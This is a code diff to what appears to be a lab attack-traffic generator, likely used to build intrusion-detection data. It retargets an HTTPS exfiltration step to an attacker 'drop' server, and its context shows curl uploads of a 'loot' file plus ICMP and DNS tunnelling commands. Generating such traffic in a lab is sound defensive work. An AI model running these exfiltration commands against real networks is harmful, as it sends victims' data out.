@@ -4,7 +4,9 @@
 Each step is one or more commands run together in the attacker namespace, every one wrapped in
 ``timeout`` by the recorder and bounded in count as well (port lists, ``hping3 -c``, password
 lists, query files). Targets are always lab hosts (:class:`LabContext`); nothing here names any
-other address. :data:`TOOLS` maps every binary to the Debian package that provides it, so a
+other address. Exfiltration goes to hosts only the attacker uses: the LAN's unseen ``sink`` and the
+``drop`` server outside the LAN (an HTTPS upload endpoint in the lab's "internet" range that no
+benign device talks to). :data:`TOOLS` maps every binary to the Debian package that provides it, so a
 missing tool is reported with the package to install.
 """
 from __future__ import annotations
@@ -310,9 +312,11 @@ def _exfiltration(ctx: LabContext, rng: random.Random) -> list[Step]:
              [["curl", "-s", "-o", "/dev/null", "--limit-rate", f"{rng.choice([1, 2])}M", "-m", "30",
                "-H", "Content-Type: application/octet-stream", "--data-binary", f"@{loot}",
                f"http://{sink}:8080/upload"]], weight=1.5),
-        Step("HTTPS POST exfiltration to a cloud address", "exfiltration",
+        # to the attacker's own drop server: the lab's cloud (203.0.113.10) is where the NAS backs up
+        # every ~40 s with the same curl, and a POST there is not separable from a backup by behaviour
+        Step("HTTPS POST exfiltration to the attacker's drop server", "exfiltration",
              [["curl", "-sk", "-o", "/dev/null", "--limit-rate", f"{rng.choice([1, 2, 4])}M", "-m", "30",
-               "--data-binary", f"@{loot}", f"https://{ctx.ips.get('cloud', sink)}/upload"]], weight=1.5),
+               "--data-binary", f"@{loot}", f"https://{ctx.ip('drop')}/upload"]], weight=1.5),
         Step("ICMP tunnel (hping3 -E payload)", "exfiltration",
              [_hping(ctx, "-1", "-E", str(small), "-d", "1000", "-c", "200", "-i", "u20000", sink)]),
         Step("dns2tcp TCP-over-DNS tunnel via the lab resolver (HTTP upload through it)", "exfiltration",
